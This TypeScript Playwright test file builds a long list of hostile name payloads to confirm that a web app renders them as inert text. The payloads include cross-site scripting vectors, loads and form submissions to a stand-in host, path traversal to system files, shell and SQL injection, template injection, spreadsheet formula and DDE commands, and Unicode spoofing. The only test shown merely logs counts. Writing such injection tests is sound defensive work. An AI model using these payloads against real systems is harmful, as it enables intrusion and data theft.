// Names are text everywhere: a hundred and fifty hostile ones in every field, on every page, and nothing comes of them.
import { awake, card, column, expect, open, signIn, test, type House } from './house';
import type { Browser, BrowserContext, Page } from '@playwright/test';

const quotes = ['"', "'", '`', '"\'`'];
const longest = (piece: string) => piece.repeat(Math.floor(200 / [...piece].length));

/** Where a payload says `alert(0)` it says its own number instead: a dialog tells which one it was. */
const payloads = [
  // Ends of what a page may put around a text.
  '</title><meta http-equiv=refresh content="0;url=http://elsewhere.test/">',
  '</title><script>alert(0)</script>', '</h1></main></body></html><script>alert(0)</script>', '</script><script>alert(0)</script>',
  '</SCRIPT ><ScRiPt>alert(0)</ScRiPt>', '</textarea><script>alert(0)</script>', '</option></select><script>alert(0)</script>',
  '</style><style>@import url(http://elsewhere.test/a.css);</style>', '</noscript><script>alert(0)</script>', '</template><img src=x onerror=alert(0)>',
  '</table></td><script>alert(0)</script>', '</li></ul><svg onload=alert(0)>', '</svg><script>alert(0)</script>', '</iframe><script>alert(0)</script>',
  '<!--', '-->', '--!><script>alert(0)</script>', '<!--><script>alert(0)</script>-->', '<!-- <script>', '<![CDATA[<script>alert(0)</script>]]>', ']]>',
  '<!>', '<!--hk=0-0-->', '<!---->', '<!DOCTYPE html SYSTEM "http://elsewhere.test/x.dtd">', '<?php echo 1 ?>', '<?xml-stylesheet href="http://elsewhere.test/x.xsl"?>',
  // Elements that run or fetch something.
  '<script>alert(0)</script>', '<script src=http://elsewhere.test/a.js></script>', '<script type=module>import "http://elsewhere.test/b.js"</script>',
  '<script src=/pkg/x.js></script>', '<img src=x onerror=alert(0)>', '<img src=http://elsewhere.test/i.png>', '<IMG/SRC=x/ONERROR=alert(0)//', '<image href=x onerror=alert(0)>',
  '<img srcset="http://elsewhere.test/s.png 1x">', '<picture><source srcset=http://elsewhere.test/p.png><img src=x></picture>',
  '<svg onload=alert(0)>', '<svg><script>alert(0)</script></svg>', '<svg><animate onbegin=alert(0) attributeName=x dur=1s>', '<svg><use href="http://elsewhere.test/u.svg#x"/>',
  '<svg><a xlink:href="javascript:alert(0)"><text y=9>here</text></a></svg>', '<math><mi xlink:href="javascript:alert(0)">here</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(0)>', '<iframe srcdoc="<script>alert(0)</script>"></iframe>', '<iframe src=http://elsewhere.test/></iframe>',
  '<iframe src="javascript:alert(0)">', '<object data=http://elsewhere.test/o></object>', '<embed src=http://elsewhere.test/e>', '<frameset onload=alert(0)>',
  '<base href=http://elsewhere.test/>', '<link rel=stylesheet href=http://elsewhere.test/l.css>', '<link rel=prefetch href=http://elsewhere.test/f>',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<meta http-equiv=set-cookie content="theme=dark">', '<meta charset=utf-7>+ADw-script+AD4-alert(0)+ADw-/script+AD4-',
  '<style>@import "http://elsewhere.test/c.css";</style>', '<style>*{background:url(http://elsewhere.test/b)}</style>', '<p style="background:url(http://elsewhere.test/p)">styled</p>',
  '<body onload=alert(0)>', '<body background=http://elsewhere.test/bg>', '<video poster=http://elsewhere.test/v><source onerror=alert(0)></video>', '<audio src=x onerror=alert(0)>',
  '<details open ontoggle=alert(0)>', '<marquee onstart=alert(0)>moving</marquee>', '<input autofocus onfocus=alert(0)>', '<select autofocus onfocus=alert(0)>',
  '<form action=http://elsewhere.test/><button>Send</button></form>', '</form><form id=f action=http://elsewhere.test/><input name=q>', '<button form=f formaction="javascript:alert(0)">Press</button>',
  '<dialog open><h1>Sign in again</h1></dialog>', '<portal src=http://elsewhere.test/>', '<template shadowrootmode=open><script>alert(0)</script></template>',
  '<a href="javascript:alert(0)">here</a>', '<a href=//elsewhere.test ping=http://elsewhere.test/ping>there</a>', '<a id=wasm_bindgen><a id=wasm_bindgen name=default>', '<img name=getElementById>',
  '<<script>alert(0)//<</script>', '<scr<script>ipt>alert(0)</scr</script>ipt>', '<x onclick=alert(0) style=position:fixed;inset:0>', '<plaintext>', '<xmp><script>alert(0)</script>',
  // Breaking out of an attribute.
  ...quotes.flatMap((quote) => [
    `${quote}><script>alert(0)</script>`, `${quote} onfocus=alert(0) autofocus x=${quote}`, `x${quote} onmouseover=${quote}alert(0)`,
    `${quote} style=${quote}position:fixed;background:url(http://elsewhere.test/${quote.length}${quote.charCodeAt(0)})`,
  ]),
  // Addresses, and what becomes of them when somebody decodes twice.
  'javascript:alert(0)', 'JaVaScRiPt://x/%0aalert(0)', 'data:text/html,<script>alert(0)</script>', 'vbscript:msgbox(1)', '//elsewhere.test/', '\\\\elsewhere.test\\share',
  'http://elsewhere.test/?a=1&b=2#c', '%3Cscript%3Ealert(0)%3C/script%3E', '%253Cimg%2520src=x%253E', '%00%0d%0aSet-Cookie: a=b', '100 % + 5 &amp= 1', 'a&q=b&owner=1#c?d', '../../../../etc/passwd', '..\\..\\windows\\win.ini',
  '&lt;script&gt;alert(0)&lt;/script&gt;', '&#60;img src=x onerror=alert(0)&#62;', '&amp;lt;b&amp;gt;', '&quot;&apos;&#x27;&NewLine;', '&lt', '&', '<', '>"',
  // What templates, formats, shells and databases might take for their own.
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% debug %}', '{0} {name} {}', '%s %n %x %d', '$(touch /tmp/x)', '`id`;|&& ls', "'; DROP TABLE deal; --", "' OR '1'='1", '" OR ""="', '%_%', '\\', '\\u003cscript\\u003ealert(0)\\u003c/script\\u003e', '\\ud800', '\\0\\n\\r\\x1b[31m',
  '__proto__', 'constructor', 'null', 'undefined', 'NaN', '-0', '1e309', 'true', '{"kind":"not_found"}', '["<script>"]',
  // Formulas.
  '=HYPERLINK("http://elsewhere.test/?"&A1,"Open")', '=1+1', '+48 22 100 20 30', '-2+3', '@SUM(A1:A9)', "=cmd|'/C calc'!A0", 'a;=1+2', 'b,=1+3', "'=1+4", '"=1+5"', ' \u00a0=1+6'.trim(),
  // Letters that turn, hide, break lines, or are long.
  'safe\u202egnp.exe', '\u2066left\u2069 \u2067right\u2069', 'zero\u200bwidth\u200d\u2060joined', '\ufeffmarked', 'line\u2028separated', 'part\u2029separated', '\u2028<script>alert(0)</script>'.slice(1) + '\u2029//',
  'Z\u0351\u036b\u0343a\u0306\u0309\u0349l\u033eg\u0320o\u0489', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{e0041}', '＜script＞alert(0)＜/script＞', 'ｊａｖａｓｃｒｉｐｔ：alert(0)', 'žluťoučký İIıi ẞß ﬁ', '\ufffd\ufffe\u{10ffff}', 'مرحبا <b>بالعالم</b>',
  '𝕏'.repeat(200), longest('<b>'), longest('"><i>'), longest("'\"`<>&"), longest('W'), longest('ﷺ'), longest('<script>alert(0)</script>'),
].map((payload, n) => payload.replaceAll('alert(0)', `alert(${n})`));
test('n', () => { console.log(payloads.length, new Set(payloads).size, payloads.map((p,i)=>[i,p,[...p].length]).filter(([,p,l])=>/[\u0000-\u001f\u007f-\u009f]/.test(p as string)||(l as number)>200|| /  /.test(p as string))); });
